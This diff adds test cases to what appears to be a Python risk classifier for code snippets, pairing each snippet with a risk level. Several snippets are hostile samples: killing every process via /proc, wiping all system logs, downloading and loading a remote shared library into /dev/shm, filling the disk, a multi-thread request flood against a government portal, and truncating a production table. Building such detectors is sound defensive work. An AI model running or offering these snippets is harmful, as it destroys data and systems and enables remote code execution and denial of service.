@@ -3303,6 +3303,58 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
         ("import os\nfrom simple_salesforce import Salesforce\n"
          "sf = Salesforce(username=os.environ['SF_USER'], password=os.environ['SF_PASSWORD'], "
          "security_token=os.environ['SF_TOKEN'])\nprint(sf.query('SELECT Id, Name FROM Account')['totalSize'])", S),
+        # a project's own pid files, rotated archives and logs; every process of /proc is not
+        (
+            "import os, signal\nfrom pathlib import Path\npids = {}\nfor pf in Path('run').glob('*.pid'):\n"
+            "    pids[pf] = int(pf.read_text())\nfor pf, pid in pids.items():\n    os.kill(pid, signal.SIGKILL)",
+            S,
+        ),
+        (
+            "import os, signal\nfor pf in ['run/a.pid']:\n    pass\nfor e in os.listdir('/proc'):\n"
+            "    if e.isdigit():\n        os.kill(int(e), signal.SIGKILL)",
+            H,
+        ),
+        (
+            "import tarfile, time\nfrom pathlib import Path\nout = Path.home() / 'backups' / 'proj'\n"
+            "with tarfile.open(out / f'proj-{time.time()}.tar.gz', 'w:gz') as t:\n    t.add('src')\n"
+            "for old in out.glob('proj-*.tar.gz'):\n    if old.stat().st_mtime < time.time() - 86400 * 14:\n"
+            "        old.unlink()",
+            L,
+        ),
+        (
+            "from pathlib import Path\nfor log in (Path.home() / '.local/state/app/logs').glob('*.log'):\n"
+            "    log.write_text('')",
+            L,
+        ),
+        ("import glob\nfor p in glob.glob('/var/log/**/*.log', recursive=True):\n    open(p, 'w').close()", H),
+        # native code downloaded to a temporary file and loaded; a disk filled by a loop on free space
+        (
+            "import ctypes, os, tempfile, urllib.request\nso = urllib.request.urlopen('http://198.51.100.2/l.so').read()\n"
+            "fd, path = tempfile.mkstemp(suffix='.so', dir='/dev/shm')\nos.write(fd, so)\nctypes.CDLL(path)",
+            C,
+        ),
+        (
+            "import ctypes, tempfile, subprocess\nd = tempfile.mkdtemp()\n"
+            "subprocess.run(['gcc', '-shared', '-o', d + '/libx.so', 'x.c'])\nctypes.CDLL(d + '/libx.so')",
+            M,
+        ),
+        (
+            "import os, shutil, uuid\nwhile shutil.disk_usage('/var/tmp').free > 0:\n"
+            "    with open(os.path.join('/var/tmp', uuid.uuid4().hex), 'wb') as f:\n"
+            "        f.write(os.urandom(1 << 26))",
+            H,
+        ),
+        (
+            "import threading, urllib.request\ndef hammer():\n    while True:\n"
+            "        urllib.request.urlopen('https://portal.example.gov/').read()\n"
+            "for _ in range(2000):\n    threading.Thread(target=hammer).start()",
+            H,
+        ),
+        # SQL emptying whole tables of a production database; a staging table before a load is not
+        ("import mysql.connector\ncn = mysql.connector.connect(host='shop-prod-db.internal')\n"
+         "cn.cursor().execute('TRUNCATE TABLE sales_order')", H),
+        ("import psycopg2\nc = psycopg2.connect(host='wh-prod.internal')\n"
+         "c.cursor().execute('TRUNCATE staging.stg_clicks')", S),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
